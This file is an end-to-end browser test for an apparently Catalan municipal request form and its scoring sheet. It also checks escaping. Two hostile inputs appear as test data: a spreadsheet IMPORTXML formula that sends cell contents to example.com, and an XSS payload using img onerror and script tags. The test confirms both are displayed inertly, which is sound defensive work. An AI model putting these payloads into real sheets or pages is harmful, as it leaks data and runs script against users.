// The newcomer's walk through the local page, in real Chromium: a municipality fills in the
// form, the Commission scores and decides in the sheet view, the sweep sends the decision,
// and the email is read in the outbox view. Screenshots of the three views go to the README.
import { mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { chromiumMissing, CHROMIUM, launchChromium, type Browser } from '../support/chromium';
import { stackForm } from '../support/form-publish';
import { localPage, type LocalPage } from '../support/local-page';
import { startTestStack, type TestStack } from '../support/stack';
import { validBody } from '../support/submissions';

// The README's screenshots are refreshed with UPDATE_SCREENSHOTS=1; other runs keep theirs
// out of the work tree.
const SHOTS = process.env.UPDATE_SCREENSHOTS ? 'docs/screenshots' : join(tmpdir(), 'xmess-screenshots');
const EMAIL = 'anna.serra@example.cat';
const OTHER = 'vilanova@example.cat';
// Text a person typed that a careless page would run or a sheet would evaluate.
const HOSTILE_NAME = '=IMPORTXML("http://example.com/?d="&A1,"//a")';
const HOSTILE_NEED = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
const NON_MEMBER_RED = 'rgb(245, 204, 204)';

// Browser globals used by the functions that run inside the page (the project's tsconfig
// has no DOM library: everything else here runs in Node).
declare const window: { __pwned?: number; scrollTo(x: number, y: number): void };
declare function getComputedStyle(element: unknown): { backgroundColor: string };

let stack: TestStack;
let browser: Browser;
let page: Page;
let ui: LocalPage;

const title = chromiumMissing ? `walkthrough: SKIPPED, no Chromium at ${CHROMIUM} (apt-get install -y chromium)` : 'walkthrough in Chromium';

describe.skipIf(chromiumMissing)(title, { timeout: 300_000 }, () => {
  beforeAll(async () => {
    mkdirSync(SHOTS, { recursive: true });
    stack = await startTestStack();
    browser = await launchChromium();
    page = await browser.context.newPage();
    ui = localPage(page);
    page.on('dialog', (d) => void d.accept()); // the reset button asks first
    await page.goto(`${stack.url}/`);
    await ui.field('municipality').waitFor();
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await stack?.close();
  });

  test('an invalid request shows the Catalan errors next to its fields', async () => {
    await ui.field('municipality').getByRole('textbox').fill('Ajuntament de Manresa');
    await ui.field('contactEmail').getByRole('textbox').fill('això no és un correu');
    await ui.submit();
    await expect.poll(() => ui.field('contactName').locator('p.error').textContent()).toBe('Cal omplir el camp «Persona de contacte».');
    expect(await ui.field('contactEmail').locator('p.error').textContent()).toContain('ha de ser una adreça de correu vàlida');
    expect(await ui.field('commitments').locator('p.error').textContent()).toContain('Cal acceptar el compromís');
    expect(await ui.view('form').locator('.form-errors').textContent()).toContain('La sol·licitud té errors');
    await page.evaluate(() => window.scrollTo(0, 0));
    await page.screenshot({ path: `${SHOTS}/formulari.png` });
  });

  test('a valid request is recorded and arrives in the sheet with its flags and colours', async () => {
    const form = ui.view('form');
    await ui.fillValidRequest(EMAIL);
    await ui.submit();
    await expect.poll(() => form.locator('#form-result .result.ok').count(), { timeout: 120_000 }).toBe(1);
    expect(await form.locator('.form-errors').textContent()).toBe('');

    // Another door, another municipality: not a member, and with text meant to be run.
    const other = { municipality: 'Ajuntament de Vilanova i la Geltrú', contactName: HOSTILE_NAME, contactEmail: OTHER, need: HOSTILE_NEED };
    expect((await stack.post(validBody({ submissionId: 'api-1', submittedAt: new Date().toISOString(), ...other }))).status).toBe(201);

    await ui.openSheetUntil(ui.rowOf(EMAIL));
    await ui.openSheetUntil(ui.rowOf(OTHER));
    expect(await ui.cell(EMAIL, 'Membre').textContent()).toBe('TRUE');
    expect(await ui.cell(EMAIL, 'Fora de termini').textContent()).toBe('FALSE');
    expect(await ui.cell(OTHER, 'Membre').textContent()).toBe('FALSE');
    expect(await ui.cell(OTHER, 'Persona de contacte').evaluate((td) => getComputedStyle(td).backgroundColor)).toBe(NON_MEMBER_RED);
    expect(await ui.cell(EMAIL, 'Persona de contacte').evaluate((td) => getComputedStyle(td).backgroundColor)).not.toBe(NON_MEMBER_RED);
    // User text is shown as typed: not evaluated by the sheet, not run by the page.
    expect(await ui.cell(OTHER, 'Persona de contacte').textContent()).toBe(HOSTILE_NAME);
    expect(await ui.cell(OTHER, 'Necessitat').textContent()).toBe(HOSTILE_NEED);
    expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  });

  test('scores change the total and the rank; an acceptance is released', async () => {
    expect(await ui.cell(EMAIL, 'Total').textContent()).toBe('');
    await ui.edit(EMAIL, 'Punt. Necessitat i impacte', '4');
    await ui.edit(EMAIL, 'Punt. Transferibilitat', '3');
    await ui.edit(EMAIL, 'Punt. Alineació', '5');
    const total = Number(await ui.cell(EMAIL, 'Total').textContent());
    expect(total).toBeGreaterThan(0);
    expect(await ui.cell(EMAIL, 'Rànquing').textContent()).toBe('1');
    // A better-scored request from a non-member stays out of the ranking, with the reason,
    // until the Commission admits it; then it takes the first place.
    await ui.edit(OTHER, 'Punt. Necessitat i impacte', '5');
    await ui.edit(OTHER, 'Punt. Transferibilitat', '5');
    await ui.edit(OTHER, 'Punt. Alineació', '5');
    expect(await ui.cell(OTHER, 'Rànquing').textContent()).toBe('');
    expect(await ui.cell(OTHER, 'Motiu per no classificar').textContent()).toBe('No membre.');
    expect(await ui.cell(EMAIL, 'Rànquing').textContent()).toBe('1');
    await ui.edit(OTHER, 'Admesa', true);
    expect(await ui.cell(OTHER, 'Rànquing').textContent()).toBe('1');
    expect(await ui.cell(EMAIL, 'Rànquing').textContent()).toBe('2');

    await ui.edit(EMAIL, 'Decisió', 'Acceptada');
    await ui.edit(EMAIL, 'Servei assignat', 'Mentoria');
    await ui.edit(EMAIL, 'Hores assignades', '4');
    await ui.edit(EMAIL, 'Enviar decisió', true);
    expect(await ui.cell(EMAIL, 'Hores comptades').textContent()).toBe('4');
    expect(await ui.cell(EMAIL, 'Estat de la notificació').textContent()).toBe('Pendent d’enviar');
    // The screenshot shows the Commission's columns, from the scores to the rank: a wide
    // window, as a Commission member would use for a sheet this wide.
    await page.setViewportSize({ width: 1920, height: 1000 });
    const box = await page.locator('.grid-holder').evaluate((holder) => {
      holder.querySelector('th[data-col="Punt. Necessitat i impacte"]')?.scrollIntoView({ inline: 'start', block: 'nearest' });
      return holder.getBoundingClientRect().bottom;
    });
    await page.screenshot({ path: `${SHOTS}/full.png`, clip: { x: 0, y: 0, width: 1920, height: Math.ceil(box) + 16 } });
    await page.setViewportSize({ width: 1440, height: 1000 });
  });

  test('the sweep sends the acceptance, which reads right in the outbox', async () => {
    await page.click('#sweep');
    await expect.poll(() => page.locator('#last-sweep').textContent(), { timeout: 120_000 }).toContain('correus de decisió enviats: 1');
    await page.click('#tab-mail');
    const mail = ui.view('mail').locator('article.mail[data-kind="decisio"]');
    await mail.first().waitFor();
    await expect.poll(() => mail.count()).toBe(1);
    const headers = mail.locator('table.headers');
    expect(await headers.locator('tr', { hasText: 'Per a' }).locator('td').textContent()).toBe(EMAIL);
    expect(await headers.locator('tr', { hasText: 'Assumpte' }).locator('td').textContent()).toContain('acceptada');
    expect(await headers.locator('tr', { hasText: 'custom_args' }).locator('td').textContent()).toContain('kind=decisio');
    expect(await mail.locator('pre').textContent()).toContain('Mentoria');
    expect(await mail.locator('iframe').getAttribute('sandbox')).toBe('');
    expect(await mail.frameLocator('iframe').locator('body').textContent()).toContain('Mentoria');
    // The acceptance at the top of the screenshot (the staff digest, sent after it, comes first).
    await mail.evaluate((article) => article.scrollIntoView({ block: 'start' }));
    // The sandboxed frame paints in its own process: let it catch up with the scroll.
    await mail.frameLocator('iframe').locator('body').waitFor();
    await page.waitForTimeout(500);
    await page.screenshot({ path: `${SHOTS}/correu.png` });
  });

  test('reset empties the sheet and the outbox and loads the demo again', async () => {
    await page.click('#reset');
    await expect.poll(() => page.locator('#status').textContent(), { timeout: 120_000 }).toBe('Demostració reiniciada.');
    expect(await ui.view('mail').locator('article.mail').count()).toBe(0);
    await page.click('#tab-sheet');
    await ui.settled();
    expect(await ui.view('sheet').locator('tbody tr').count()).toBe(0);
  });

  test('a Google Form that stops accepting responses says so, in Catalan, before and after sending', async () => {
    const form = stackForm(stack);
    const closedText = 'El formulari de Google no accepta respostes';
    await page.click('#tab-form');
    await ui.field('municipality').waitFor();
    // Closed after the page loaded: the answer to the send says it.
    await form.close({ isPublished: true, isAcceptingResponses: false });
    await ui.fillValidRequest(EMAIL);
    await ui.submit();
    await expect.poll(() => ui.view('form').locator('#form-result .result.error').textContent(), { timeout: 60_000 }).toContain(closedText);
    // Loaded while closed: the message is there and the form cannot be sent.
    await page.goto(`${stack.url}/`);
    await ui.field('municipality').waitFor();
    expect(await ui.view('form').locator('.form-closed').textContent()).toContain(closedText);
    expect(await ui.view('form').getByRole('button', { name: 'Envia la sol·licitud' }).isDisabled()).toBe(true);
    // Opened again the admin's way.
    expect(await form.update()).toBe(0);
    await page.goto(`${stack.url}/`);
    await ui.field('municipality').waitFor();
    expect(await ui.view('form').locator('.form-closed').count()).toBe(0);
    expect(await ui.view('form').getByRole('button', { name: 'Envia la sol·licitud' }).isDisabled()).toBe(false);
  });
});
